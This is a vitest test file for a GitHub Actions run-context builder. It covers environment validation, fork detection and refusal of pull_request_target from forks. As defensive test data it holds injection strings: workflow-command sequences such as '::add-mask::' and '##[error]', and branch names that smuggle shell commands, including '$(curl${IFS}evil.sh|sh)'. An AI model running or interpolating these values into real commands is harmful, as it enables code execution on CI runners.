import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { ContextError } from '../../../src/domain/errors.js';
import { assertEventAllowed, buildRunContext, isPullRequestRun } from '../../../src/domain/plan/run-context.js';

function fixture(name: string): Record<string, unknown> {
  return JSON.parse(readFileSync(new URL(`../../fixtures/events/${name}`, import.meta.url), 'utf8')) as Record<string, unknown>;
}

const ENV = {
  GITHUB_EVENT_NAME: 'push',
  GITHUB_REF: 'refs/heads/main',
  GITHUB_SHA: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e',
  GITHUB_REPOSITORY: 'Ftmo-Labs/dax-trading',
  GITHUB_REPOSITORY_OWNER: 'Ftmo-Labs',
  GITHUB_WORKSPACE: '/home/runner/work/dax-trading/dax-trading',
  GITHUB_SERVER_URL: 'https://github.com',
  GITHUB_API_URL: 'https://api.github.com',
  GITHUB_RUN_ID: '11873456201',
  GITHUB_ACTOR: 'jana-novak',
  RUNNER_TEMP: '/home/runner/work/_temp',
};

const PR_ENV = { ...ENV, GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/42/merge', GITHUB_SHA: 'f1d92115a540de598e6500f645c822269b7cd8e4' };

function thrown(fn: () => unknown): Error {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected an error');
}

describe('buildRunContext', () => {
  it('turns a push into a plain context', () => {
    expect(buildRunContext(ENV, fixture('push.json'))).toEqual({
      eventName: 'push',
      ref: 'refs/heads/main',
      sha: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e',
      repository: 'Ftmo-Labs/dax-trading',
      owner: 'Ftmo-Labs',
      workspace: '/home/runner/work/dax-trading/dax-trading',
      serverUrl: 'https://github.com',
      apiUrl: 'https://api.github.com',
      runId: '11873456201',
      actor: 'jana-novak',
      payloadDefaultBranch: 'main',
      pullRequest: undefined,
    });
  });

  it('reads the pull request of a same-repository pull_request event', () => {
    expect(buildRunContext(PR_ENV, fixture('pull_request.json')).pullRequest).toEqual({
      number: 42,
      headRef: 'feature/risk-limits',
      headSha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
      headRepo: 'Ftmo-Labs/dax-trading',
      baseRepo: 'Ftmo-Labs/dax-trading',
      fork: false,
    });
  });

  it('marks a pull request from another repository as a fork', () => {
    const env = { ...PR_ENV, GITHUB_REF: 'refs/pull/57/merge', GITHUB_SHA: '8b8cad0a7cd8bc5775e1b7ac8070ad7901aa429b' };
    expect(buildRunContext(env, fixture('pull_request_fork.json')).pullRequest).toEqual({
      number: 57,
      headRef: 'fix/retry-typo',
      headSha: '9a6d6fe8030a011fac5c4cb5b2ff3b3212a28dc8',
      headRepo: 'octo-contributor/dax-trading',
      baseRepo: 'Ftmo-Labs/dax-trading',
      fork: true,
    });
  });

  it('treats a deleted head repository (head.repo null) as a fork', () => {
    const payload = fixture('pull_request_fork.json');
    const pr = payload.pull_request as { head: Record<string, unknown> };
    pr.head.repo = null;
    const context = buildRunContext({ ...PR_ENV, GITHUB_REF: 'refs/pull/57/merge' }, payload);
    expect(context.pullRequest?.headRepo).toBe('');
    expect(context.pullRequest?.fork).toBe(true);
  });

  it('compares repository names without regard to case', () => {
    const payload = fixture('pull_request.json');
    const pr = payload.pull_request as { head: { repo: Record<string, unknown> } };
    pr.head.repo.full_name = 'ftmo-labs/DAX-Trading';
    expect(buildRunContext(PR_ENV, payload).pullRequest?.fork).toBe(false);
  });

  it('fills the documented defaults when optional variables are missing', () => {
    const context = buildRunContext(
      {
        GITHUB_EVENT_NAME: 'push',
        GITHUB_SHA: '0CCF1AE1BF4C7D610115754EEF7BF8C60E7F167E',
        GITHUB_REPOSITORY: 'octocat/hello',
        GITHUB_WORKSPACE: '/ws',
      },
      {},
    );
    expect(context).toEqual({
      eventName: 'push',
      ref: '',
      sha: '0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e',
      repository: 'octocat/hello',
      owner: 'octocat',
      workspace: '/ws',
      serverUrl: 'https://github.com',
      apiUrl: 'https://api.github.com',
      runId: '',
      actor: '',
      payloadDefaultBranch: '',
      pullRequest: undefined,
    });
  });

  it.each(['GITHUB_EVENT_NAME', 'GITHUB_SHA', 'GITHUB_REPOSITORY', 'GITHUB_WORKSPACE'])(
    'names the missing variable %s',
    (name) => {
      const error = thrown(() => buildRunContext({ ...ENV, [name]: undefined }, {}));
      expect(error).toBeInstanceOf(ContextError);
      expect(error.message).toBe(`${name}: must be set (the GitHub runner sets it for every step)`);
      const empty = thrown(() => buildRunContext({ ...ENV, [name]: '' }, {}));
      expect(empty.message).toContain(name);
    },
  );

  it.each([
    ['GITHUB_SHA', 'abc123', 'GITHUB_SHA: must be a full commit SHA (40 hex characters) (got "abc123")'],
    ['GITHUB_SHA', 'refs/heads/main', 'GITHUB_SHA: must be a full commit SHA (40 hex characters) (got "refs/heads/main")'],
    ['GITHUB_REPOSITORY', 'no-slash', 'GITHUB_REPOSITORY: must be owner/name (got "no-slash")'],
    ['GITHUB_REPOSITORY', 'a/b/c', 'GITHUB_REPOSITORY: must be owner/name (got "a/b/c")'],
    ['GITHUB_WORKSPACE', 'relative/dir', 'GITHUB_WORKSPACE: must be an absolute path (got "relative/dir")'],
  ])('refuses %s=%j', (name, value, message) => {
    expect(thrown(() => buildRunContext({ ...ENV, [name]: value }, {})).message).toBe(message);
  });

  it.each([
    ['null', null],
    ['an array', []],
    ['a string', 'push'],
    ['a number', 42],
    ['repository of the wrong type', { repository: 'Ftmo-Labs/dax-trading' }],
    ['default_branch of the wrong type', { repository: { default_branch: 5 } }],
    ['pull_request of the wrong type on a push', { pull_request: 'yes' }],
  ])('survives a payload that is %s', (_what, payload) => {
    const context = buildRunContext(ENV, payload);
    expect(context.payloadDefaultBranch).toBe('');
    expect(context.pullRequest).toBeUndefined();
    expect(context.sha).toBe('0ccf1ae1bf4c7d610115754eef7bf8c60e7f167e');
  });

  const badPullRequests: [string, unknown, string][] = [
    ['no pull_request', {}, 'event payload: a pull_request event must carry pull_request'],
    ['pull_request null', { pull_request: null }, 'event payload: a pull_request event must carry pull_request'],
    [
      'a string number',
      { pull_request: { number: '42', head: { sha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f' } } },
      'event payload pull_request.number: must be a positive integer (got "42")',
    ],
    [
      'number 0',
      { pull_request: { number: 0, head: { sha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f' } } },
      'event payload pull_request.number: must be a positive integer (got "0")',
    ],
    ['no head', { pull_request: { number: 42 } }, 'event payload pull_request.head.sha: must be a full commit SHA (got "")'],
    [
      'a short head sha',
      { pull_request: { number: 42, head: { sha: 'e84cc64' } } },
      'event payload pull_request.head.sha: must be a full commit SHA (got "e84cc64")',
    ],
  ];
  it.each(badPullRequests)('refuses a pull_request payload with %s', (_what, payload, message) => {
    const error = thrown(() => buildRunContext(PR_ENV, payload));
    expect(error).toBeInstanceOf(ContextError);
    expect(error.message).toBe(message);
  });

  // Payload fields that name branches must be names git could hold: `::`, `[` and line
  // breaks would otherwise reach log lines (the plan is printed) as workflow commands.
  const RULE = 'must be a git branch name: must not contain spaces, control characters or any of ~ ^ : ? * [ \\';
  const hostileRefs: [string, string][] = [
    ['::add-mask::x', `${RULE} (got ":\\u003aadd-mask:\\u003ax")`],
    ['##[error]pwned', `${RULE} (got "##\\u005berror]pwned")`],
    ['x\n::error::pwned', `${RULE} (got "x\\n:\\u003aerror:\\u003apwned")`],
    ['two words', `${RULE} (got "two words")`],
    ['a..b', `must be a git branch name: must not contain '..' (got "a..b")`],
    ['a@{1}', `must be a git branch name: must not contain '@{' (got "a@{1}")`],
  ];
  it.each(hostileRefs)('refuses a pull request head ref %j', (ref, rule) => {
    const payload = fixture('pull_request.json');
    (payload.pull_request as { head: Record<string, unknown> }).head.ref = ref;
    const error = thrown(() => buildRunContext(PR_ENV, payload));
    expect(error).toBeInstanceOf(ContextError);
    expect(error.message).toBe(`event payload pull_request.head.ref: ${rule}`);
  });

  it.each(hostileRefs)('refuses a repository default branch %j', (ref, rule) => {
    const error = thrown(() => buildRunContext(ENV, { repository: { default_branch: ref } }));
    expect(error).toBeInstanceOf(ContextError);
    expect(error.message).toBe(`event payload repository.default_branch: ${rule}`);
  });

  it('ignores a pull request with a hostile head ref on events that do not need one', () => {
    const payload = fixture('pull_request.json');
    (payload.pull_request as { head: Record<string, unknown> }).head.ref = '##[error]pwned';
    expect(buildRunContext({ ...ENV, GITHUB_EVENT_NAME: 'pull_request_review' }, payload).pullRequest).toBeUndefined();
  });

  it.each(['feat/$(curl${IFS}evil.sh|sh)', 'feat/`id`', 'zzz";echo${IFS}"hello";#', 'release/ü-1', '+plus'])(
    'keeps a branch name git accepts, however odd: %j',
    (ref) => {
      const payload = fixture('pull_request.json');
      (payload.pull_request as { head: Record<string, unknown> }).head.ref = ref;
      (payload.repository as Record<string, unknown>).default_branch = ref;
      const context = buildRunContext(PR_ENV, payload);
      expect(context.pullRequest?.headRef).toBe(ref);
      expect(context.payloadDefaultBranch).toBe(ref);
    },
  );

  it('ignores an incomplete pull_request on events that do not need one', () => {
    const env = { ...ENV, GITHUB_EVENT_NAME: 'pull_request_review', GITHUB_REF: 'refs/pull/42/merge' };
    expect(buildRunContext(env, { pull_request: { number: 42 } }).pullRequest).toBeUndefined();
  });

  it('takes the base repository from GITHUB_REPOSITORY when the payload lacks it', () => {
    const payload = { pull_request: { number: 5, head: { ref: 'x', sha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f', repo: { full_name: 'Ftmo-Labs/dax-trading' } } } };
    expect(buildRunContext(PR_ENV, payload).pullRequest).toEqual({
      number: 5,
      headRef: 'x',
      headSha: 'e84cc64499f50d72071c1a2ce65752ff3838f03f',
      headRepo: 'Ftmo-Labs/dax-trading',
      baseRepo: 'Ftmo-Labs/dax-trading',
      fork: false,
    });
  });
});

describe('isPullRequestRun', () => {
  it.each([
    ['pull_request', 'refs/pull/42/merge', 'pull_request.json', true],
    ['pull_request_target', 'refs/heads/main', 'pull_request.json', true],
    ['pull_request_review', 'refs/pull/42/merge', 'pull_request.json', true],
    ['push', 'refs/heads/main', 'push.json', false],
    // A push payload never carries pull_request; a stray one on a branch ref does not count.
    ['workflow_dispatch', 'refs/heads/main', 'pull_request.json', false],
  ])('%s on %s (%s) -> %s', (event, ref, file, expected) => {
    expect(isPullRequestRun(buildRunContext({ ...ENV, GITHUB_EVENT_NAME: event, GITHUB_REF: ref }, fixture(file)))).toBe(expected);
  });
});

describe('assertEventAllowed', () => {
  const targetEnv = { ...ENV, GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_SHA: '9bf9df18db7e66a582c4dbb5dde49694c3df8805' };

  it('refuses pull_request_target from a fork, naming both repositories', () => {
    const context = buildRunContext(targetEnv, fixture('pull_request_target_fork.json'));
    const error = thrown(() => assertEventAllowed(context));
    expect(error).toBeInstanceOf(ContextError);
    expect(error.message).toContain('pull_request_target: refused: pull request #58 comes from "mallory-dev/dax-trading", not from "Ftmo-Labs/dax-trading"');
    expect(error.message).toContain('Use the pull_request event');
  });

  it('refuses pull_request_target when the head repository was deleted', () => {
    const payload = fixture('pull_request_target_fork.json');
    (payload.pull_request as { head: Record<string, unknown> }).head.repo = null;
    const error = thrown(() => assertEventAllowed(buildRunContext(targetEnv, payload)));
    expect(error.message).toContain('comes from a deleted repository');
  });

  it('escapes a hostile head repository name', () => {
    const payload = fixture('pull_request_target_fork.json');
    (payload.pull_request as { head: { repo: Record<string, unknown> } }).head.repo.full_name = '::stop-commands::x/y';
    const error = thrown(() => assertEventAllowed(buildRunContext(targetEnv, payload)));
    expect(error.message).toContain('":\\u003astop-commands:\\u003ax/y"');
    expect(error.message).not.toContain('::stop-commands::');
  });

  it.each([
    ['pull_request_target from the same repository', 'pull_request_target', 'pull_request.json'],
    ['pull_request from a fork (builds without pushing)', 'pull_request', 'pull_request_fork.json'],
    ['push', 'push', 'push.json'],
    ['schedule', 'schedule', 'schedule.json'],
    ['workflow_dispatch', 'workflow_dispatch', 'workflow_dispatch.json'],
  ])('allows %s', (_what, event, file) => {
    const context = buildRunContext({ ...ENV, GITHUB_EVENT_NAME: event }, fixture(file));
    expect(() => assertEventAllowed(context)).not.toThrow();
  });
});
